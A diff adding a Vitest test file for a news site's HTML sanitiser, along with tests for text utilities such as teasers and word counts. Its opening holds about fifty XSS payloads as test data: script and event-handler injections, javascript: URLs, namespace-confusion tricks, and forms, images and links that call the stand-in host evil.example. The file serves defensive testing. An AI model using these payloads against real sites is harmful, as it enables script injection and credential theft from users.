@@ -1,0 +1,184 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { countWords, cut, isBlank, plainText, sanitise, sanitiseStored, shorten, teaser } from './sanitise.ts'
+
+// Ways in that browsers have left open: handlers, schemes, parsers that disagree, namespaces, broken markup.
+const attacks = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example></sCrIpT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script\u0000>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="/media/news/a-1.webp" onload=alert(1) style="x:expression(alert(1))">',
+  '<img/src=`x`onerror=alert(1)>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img src="https://evil.example/track.gif">',
+  '<img srcset="https://evil.example/x 1x" src="/media/news/a-1.webp">',
+  '<img src="/media/../api/logout">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href=" &#14; javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="/\\evil.example">x</a>',
+  '<a href="\\\\evil.example">x</a>',
+  '<a href="https:/\\evil.example\\@x">x</a>',
+  '<a href="#" onclick="alert(1)" onmouseover=alert(1)>x</a>',
+  '<a href="/x" target="_blank" ping="https://evil.example">x</a>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src=//evil.example>',
+  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
+  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
+  '<style>@import "//evil.example"; body{background:url(//evil.example)}</style>',
+  '<p style="background:url(javascript:alert(1))" class="fixed inset-0" id="login">x</p>',
+  '<div><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></div>',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
+  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)> -->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)?>',
+  '<p title="a>b<img src=x onerror=alert(1)>">x',
+  '<video><source onerror=alert(1)></video><audio src onloadstart=alert(1)><details open ontoggle=alert(1)>',
+  '"><img src=x onerror=alert(1)><b x="',
+  '<b/onmouseover=alert(1)>x</b><b\u000conclick=alert(1)>y</b>',
+  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
+]
+
+const tag = /<(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)( \/)?>/g
+const allowed: Record<string, RegExp> = {
+  a: /^(?: href="(?:https?:\/\/[^\\\s"]+|mailto:[^"\s]+|\/(?:[^/\\"\s][^\\"\s]*)?|#[^\\"\s]*)")?(?: title="[^"]*")? rel="noopener nofollow"$/i,
+  img: /^ src="\/media\/[a-z0-9/-]+\.(?:webp|jpg)" alt="[^"]*"(?: width="\d{1,4}")?(?: height="\d{1,4}")? loading="lazy"$/,
+}
+const bare =
+  /^(?:h[234]|p|ul|ol|li|blockquote|pre|hr|br|figure|figcaption|strong|em|u|s|code|sub|sup|table|caption|thead|tbody|tfoot|tr|th|td)$/
+
+/** Whether nothing but our own tags with our own attributes is left, read by a reader much stricter than a browser. */
+function expectClean(html: string): void {
+  const rest = html.replace(tag, (_, closing: string, name: string, attributes: string) => {
+    const rule = allowed[name]
+    if (rule) expect(closing ? '' : attributes).toMatch(closing ? /^$/ : rule)
+    else {
+      expect(name).toMatch(bare)
+      expect(attributes).toMatch(/^(?: (?:start|colspan|rowspan)="[1-9]\d{0,3}"| scope="(?:row|col)")*$/)
+    }
+    return ''
+  })
+  expect(rest).not.toMatch(/[<>]/)
+}
+
+describe('attacks', () => {
+  test.each(attacks)('%s', (attack) => {
+    for (const html of [attack, `<p>before ${attack} after</p>`, `<table><tr><td>${attack}`]) {
+      const clean = sanitise(html)
+      expectClean(clean)
+      expect(clean).not.toMatch(/alert\(1\)[^<]*>|evil\.example\//)
+      expect(sanitise(clean)).toBe(clean)
+    }
+  })
+
+  test('any two of them together', () => {
+    fc.assert(
+      fc.property(
+        fc.array(
+          fc.oneof(
+            fc.constantFrom(...attacks),
+            fc.string(),
+            fc.constantFrom('<', '>', '"', "'", '<p', '</', '<!--', '&lt;'),
+          ),
+          { maxLength: 6 },
+        ),
+        (parts) => {
+          const clean = sanitise(parts.join(''))
+          expectClean(clean)
+          expect(sanitise(clean)).toBe(clean)
+        },
+      ),
+      { numRuns: 300 },
+    )
+  })
+
+  test('markup made to tire the parser is done with in a moment', () => {
+    const startedAt = performance.now()
+    for (const part of ['<div>', '<blockquote>', '<', '<a ', '&', '<!--', '<ul><li>', '<svg>', '<a href="'])
+      sanitise(part.repeat(200_000 / part.length))
+    expect(performance.now() - startedAt).toBeLessThan(5000)
+  })
+})
+
+test('what staff write stays', () => {
+  const html =
+    '<h2>Título</h2><p>Um <strong>texto</strong> com <em>ênfase</em>, <u>sublinhado</u>, <s>riscado</s> e <code>código</code>.<br />fim</p>' +
+    '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote><p>c</p></blockquote><pre><code>x &lt; y</code></pre><hr />' +
+    '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener nofollow">fora</a> <a href="/notice/x" rel="noopener nofollow">dentro</a> <a href="mailto:a@example.com" rel="noopener nofollow">carta</a></p>' +
+    '<figure><img src="/media/news/0123456789abcdef0123456789abcdef-960.webp" alt="Um &quot;mapa&quot;" width="960" height="540" loading="lazy" /><figcaption>d</figcaption></figure>' +
+    '<table><thead><tr><th scope="col">e</th></tr></thead><tbody><tr><td colspan="2">f</td></tr></tbody></table>'
+  expect(sanitise(html)).toBe(html)
+  expectClean(html)
+})
+
+test('tags of old become those of now', () => {
+  expect(sanitise('<h1>a</h1><h5>b</h5><b>c</b><i>d</i><strike>e</strike><div>f</div>')).toBe(
+    '<h2>a</h2><h4>b</h4><strong>c</strong><em>d</em><s>e</s>f',
+  )
+})
+
+test('the text of HTML is one line, with a space where a block ends and none inside a word', () => {
+  expect(
+    plainText(
+      sanitise(
+        '<h2>Um</h2><p>do<strong>is</strong> &amp;lt; tr&ecirc;s&nbsp;<br>quatro</p><ul><li>5</li><li>6</li></ul>',
+      ),
+    ),
+  ).toBe('Um dois &lt; três quatro 5 6')
+  expect(plainText(sanitise('a < b > c "d"'))).toBe('a < b > c "d"')
+})
+
+test('a teaser never ends inside a character', () => {
+  expect(teaser(`<p>${'é'.repeat(300)}</p>`, 200)).toBe('é'.repeat(200))
+  expect(teaser(`<p>${'a'.repeat(199)}🐉🐉</p>`, 200)).toBe('a'.repeat(199))
+  expect(teaser(`<p>${'&amp;'.repeat(300)}</p>`, 200)).toBe('&'.repeat(200))
+  fc.assert(
+    fc.property(fc.string({ unit: 'grapheme', maxLength: 80 }), fc.integer({ min: 1, max: 60 }), (text, length) => {
+      for (const part of [cut(text, length), shorten(text, length)]) {
+        expect(part.length).toBeLessThanOrEqual(length)
+        expect(part.isWellFormed()).toBe(true)
+      }
+      expect(text.startsWith(cut(text, length))).toBe(true)
+    }),
+  )
+})
+
+test('a shortened text ends after a word', () => {
+  expect(shorten('um dois três quatro', 12)).toBe('um dois…')
+  expect(shorten('um dois', 12)).toBe('um dois')
+})
+
+test('words are counted as people count them', () => {
+  expect(countWords('Um texto, com 3.500 moedas — e o pôr-do-sol d’água!')).toBe(9)
+  expect(countWords(' ... - ')).toBe(0)
+})
+
+test('what shows nothing is blank', () => {
+  for (const html of ['', '<p></p>', '<p><br></p>', '<p>&nbsp;\u200b</p>', '<script>x</script>', '<img src=x>'])
+    expect(isBlank(sanitise(html))).toBe(true)
+  for (const html of ['x', '<img src="/media/news/a-1.webp">']) expect(isBlank(sanitise(html))).toBe(false)
+})
+
+test('stored HTML is cleaned once and remembered', () => {
+  expect(sanitiseStored('<p onclick=x>a</p>')).toBe('<p>a</p>')
+  expect(sanitiseStored('<p onclick=x>a</p>')).toBe('<p>a</p>')
+})
